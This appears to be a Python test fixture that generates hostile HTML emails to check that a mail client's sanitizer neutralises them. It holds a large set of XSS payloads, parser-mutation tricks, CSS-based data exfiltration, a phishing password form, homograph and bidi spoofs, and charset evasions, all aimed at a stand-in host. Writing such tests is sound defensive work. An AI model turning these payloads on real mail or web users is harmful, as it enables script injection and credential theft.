"""Letters that try to run something, to fetch something, or to take a page apart. None of it may come to anything.

`TRAP` is where everything leads; whoever asks for it has been caught. `window.caught` is set by every script.
"""

from collections.abc import Iterator
from email.message import EmailMessage
from email.policy import SMTP

TRAP = "http://trap.test"
_RUN = "top.caught=1;window.caught=1"

#: name -> HTML
LETTERS: dict[str, str] = {
    # Scripts.
    "script": f"<script>{_RUN}</script>",
    "script-src": f"<script src={TRAP}/a.js></script>",
    "script-split": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script-case": f"<ScRiPt/x>{_RUN}</sCrIpT>",
    "script-in-attribute": f'<p title="</p><script>{_RUN}</script>">x</p>',
    "script-in-style": f"<style></style><script>{_RUN}</script></style>",
    "script-in-title": f"<title></title><script>{_RUN}</script></title>",
    "script-in-textarea": f"<textarea></textarea><script>{_RUN}</script></textarea>",
    "script-in-noscript": f'<noscript><p title="</noscript><script>{_RUN}</script>"></noscript>',
    "script-in-comment": f"<!--><script>{_RUN}</script>-->",
    "script-in-comment-2": f"<!--!> <img src=x onerror={_RUN}> -->",
    "script-in-template": f"<template><script>{_RUN}</script></template>",
    "shadow-root": f"<div><template shadowrootmode=open><script>{_RUN}</script><img src=x onerror={_RUN}></template></div>",
    "script-in-cdata": f"<![CDATA[<script>{_RUN}</script>]]>",
    "script-in-svg": f"<svg><script>{_RUN}</script></svg>",
    "script-href": f'<svg><script xlink:href="{TRAP}/b.js"/></svg>',
    "unclosed-script": f"<script>{_RUN}",
    "module": f'<script type=module>import "{TRAP}/m.js"</script>',
    # Attributes.
    "onerror": f"<img src=x onerror={_RUN}>",
    "onload": f"<body onload={_RUN}><svg onload={_RUN}>",
    "onfocus": f"<input autofocus onfocus={_RUN}><div tabindex=0 autofocus onfocus={_RUN}>x</div>",
    "ontoggle": f"<details open ontoggle={_RUN}>x</details>",
    "onanimation": f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={_RUN}>x</p>",
    "onpointer": f"<p style=position:fixed;inset:0 onpointerover={_RUN} onmousemove={_RUN}>x</p>",
    "handler-without-space": f'<img src="x"onerror="{_RUN}">',
    "handler-with-slash": f"<img/src=x/onerror={_RUN}>",
    "handler-null": f"<img src=x o\x00nerror={_RUN}>",
    "marquee": f"<marquee onstart={_RUN}>x</marquee>",
    "srcdoc": f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    # Links.
    "javascript-link": f"<a href='javascript:{_RUN}'>x</a>",
    "javascript-link-tab": f"<a href='java\tscript:{_RUN}'>x</a>",
    "javascript-link-entity": f"<a href='&#106avascript&colon;{_RUN}'>x</a>",
    "javascript-area": f"<map name=m><area shape=default href='javascript:{_RUN}'></map><img usemap=#m>",
    "data-link": f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    "vbscript-link": "<a href='vbscript:msgbox(1)'>x</a>",
    "ping": f"<a href='#x' ping={TRAP}/ping>x</a>",
    "homograph": "<a href='https://аррӏе.com/'>apple.com</a>",
    "other-target": f"<a href='{TRAP}/'>https://www.bank.example/login</a>",
    # What is fetched.
    "img": f"<img src={TRAP}/i.png>",
    "img-srcset": f"<img srcset='{TRAP}/i.png 1x'><picture><source srcset={TRAP}/s.png><img></picture>",
    "img-relative": "<img src='//trap.test/i.png'><img src='\\\\trap.test\\i.png'>",
    "input-image": f"<input type=image src={TRAP}/i.png>",
    "background": f"<body background={TRAP}/b.png><table background={TRAP}/t.png><tr><td background={TRAP}/d.png>x</table>",
    "link-stylesheet": f"<link rel=stylesheet href={TRAP}/s.css><link rel=prefetch href={TRAP}/p><link rel=preconnect href={TRAP}>",
    "link-icon": f"<link rel='shortcut icon' href={TRAP}/f.ico><link rel=dns-prefetch href=//trap.test>",
    "video": f"<video src={TRAP}/v poster={TRAP}/p.png autoplay></video><audio src={TRAP}/a autoplay></audio>",
    "track": f"<video><source src={TRAP}/v><track default src={TRAP}/t></video>",
    "object": f"<object data={TRAP}/o><embed src={TRAP}/e><applet code={TRAP}/a></applet></object>",
    "iframe": f"<iframe src={TRAP}/f></iframe><frameset><frame src={TRAP}/g></frameset>",
    "nested-frames": f"<iframe srcdoc=\"<iframe srcdoc='&lt;img src={TRAP}/n&gt;'></iframe>\"></iframe>",
    "svg-image": f"<svg><image href={TRAP}/i xlink:href={TRAP}/j /><use href='{TRAP}/u#x'/></svg>",
    "svg-foreign": f"<svg><foreignObject><img src={TRAP}/i><iframe src={TRAP}/f></foreignObject></svg>",
    "svg-data": '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="top.caught=1"/>\'>',
    "mathml": f"<math><mi href='javascript:{_RUN}' xlink:href='javascript:{_RUN}'>x</mi><annotation-xml encoding=text/html><script>{_RUN}</script></annotation-xml></math>",
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    "mutation-2": f'<svg></p><style><a id="</style><img src=1 onerror={_RUN}>">',
    "mutation-3": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    # Styles.
    "css-background": f"<style>body{{background:url({TRAP}/b)}}</style><p style='background:url({TRAP}/p)'>x</p>",
    "css-import": f"<style>@import '{TRAP}/i.css';@import url({TRAP}/j.css) screen;</style>",
    "css-font": f"<style>@font-face{{font-family:x;src:url({TRAP}/f)}}p{{font-family:x}}</style><p>x</p>",
    "css-exfiltration": f"<style>input[value^=a]{{background:url({TRAP}/a)}} a[href*=session]{{list-style:url({TRAP}/s)}}</style><a href='#session'>x</a>",
    "css-escapes": rf"<p style='background:\75 rl({TRAP}/e)'>x</p><style>p{{background:\000075\000072\00006c({TRAP}/f)}}</style>",
    "css-image-set": f"<p style=\"background:image-set('{TRAP}/i' 1x);content:-webkit-image-set(url({TRAP}/j) 1x)\">x</p>",
    "css-variables": f"<style>p{{--u:url({TRAP}/v);background:var(--u)}}</style><p>x</p>",
    "css-cursor": f"<style>*{{cursor:url({TRAP}/c),auto;border-image:url({TRAP}/b);mask:url({TRAP}/m);filter:url({TRAP}/f#x)}}</style>",
    "css-expression": f"<p style='width:expression({_RUN});behavior:url(#x);-moz-binding:url({TRAP}/x#y)'>x</p>",
    "css-cover": "<div style='position:fixed;inset:0;z-index:99999;background:red'>Log in again</div>",
    "css-broken": f"<style>p{{color:red;}}}}}}{{{{ @media {{ p{{background:url({TRAP}/x)</style><p style='\"}};background:url({TRAP}/y)'>x</p>",
    # The page around.
    "base": f"<base href={TRAP}/><img src=b.png><a href=x>x</a>",
    "refresh": f"<meta http-equiv=refresh content='0;url={TRAP}/r'>",
    "meta-policy": '<meta http-equiv=Content-Security-Policy content="default-src *"><meta charset=utf-7>',
    "form": f"<form action={TRAP}/f id=f><input name=password type=password><button>Log in</button></form><button form=f formaction={TRAP}/g>x</button>",
    "form-auto": f"<form action={TRAP}/f><input type=submit autofocus></form><isindex action={TRAP}/i>",
    "dialog": "<dialog open>Log in</dialog><p popover id=p>x</p><button popovertarget=p>x</button>",
    "names": "<img name=body><form name=document id=location></form><a id=top name=top>x</a>",
    "target-top": f"<a href={TRAP}/ target=_top>x</a><base target=_top>",
    "plaintext": f"<plaintext><script>{_RUN}</script>",
    "xmp": f"<xmp><script>{_RUN}</script></xmp><listing><img src=x onerror={_RUN}></listing>",
    "unclosed-tag": f'<img src={TRAP}/u title="',
    "unclosed-comment": f"<!-- <img src={TRAP}/u>",
    "deep": "<div>" * 20_000 + f"<script>{_RUN}</script>",
    "many": f"<img src={TRAP}/m>" * 5000,
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt;&#60;img src=x onerror={_RUN}&#62;",
    "bidi": "<p>\u202egnp.exe\u202c \u2066x</p>",
    "html-in-names": "<p>see the attachment</p>",
}

#: name -> octets of the HTML part, and the charset it claims.
ENCODINGS: dict[str, tuple[bytes, str]] = {
    "utf-7": (b"+ADw-script+AD4-top.caught=1+ADw-/script+AD4-", "utf-7"),
    "utf-16": ("<script>top.caught=1</script>".encode("utf-16"), "utf-16"),
    "overlong": (b"\xc0\xbcscript\xc0\xbetop.caught=1\xc0\xbc/script\xc0\xbe", "utf-8"),
    "iso-2022-jp": (b'<img src="\x1b$B" onerror=top.caught=1>\x1b(B">', "iso-2022-jp"),
    "half-characters": (b'<p title="\xe0"><img src=x onerror=top.caught=1>">\xf0\x9f', "utf-8"),
    "big5": (b'<p title="\xa4"><img src=x onerror=top.caught=1>">x', "big5"),
    "unknown": (b"<script>top.caught=1</script>\xff\xfe", "x-no-such-charset"),
    "nulls": (b"<scr\x00ipt>top.caught=1</scr\x00ipt><im\x00g src=x onerror=top.caught=1>", "utf-8"),
}


def messages() -> Iterator[tuple[str, bytes]]:
    """All of them as messages, each with a subject that is no better."""
    for name, source in LETTERS.items():
        letter = _letter(name)
        letter.set_content(source, subtype="html", cte="base64")
        if name == "html-in-names":
            letter.add_attachment(
                b"x", maintype="text", subtype="plain", filename=f"<img src={TRAP}/n onerror={_RUN}>.txt"
            )
            letter.add_attachment(source.encode(), maintype="image", subtype="svg+xml", filename="x.svg")
        yield name, letter.as_bytes(policy=SMTP)
    for name, (octets, charset) in ENCODINGS.items():
        letter = _letter(name)
        letter.set_content(octets, maintype="text", subtype="html", cte="base64")
        letter.del_param("charset")
        letter.set_param("charset", charset)
        yield name, letter.as_bytes(policy=SMTP)


def _letter(name: str) -> EmailMessage:
    letter = EmailMessage()
    letter["From"] = '"<img src=x onerror=top.caught=1>" <eve@evil.example>'
    letter["To"] = "mox@localhost"
    letter["Subject"] = f"{name} <script>top.caught=1</script>"
    letter["Message-ID"] = f"<{name}@evil.example>"
    letter["Date"] = "Thu, 26 Nov 2026 10:00:00 +0000"
    return letter
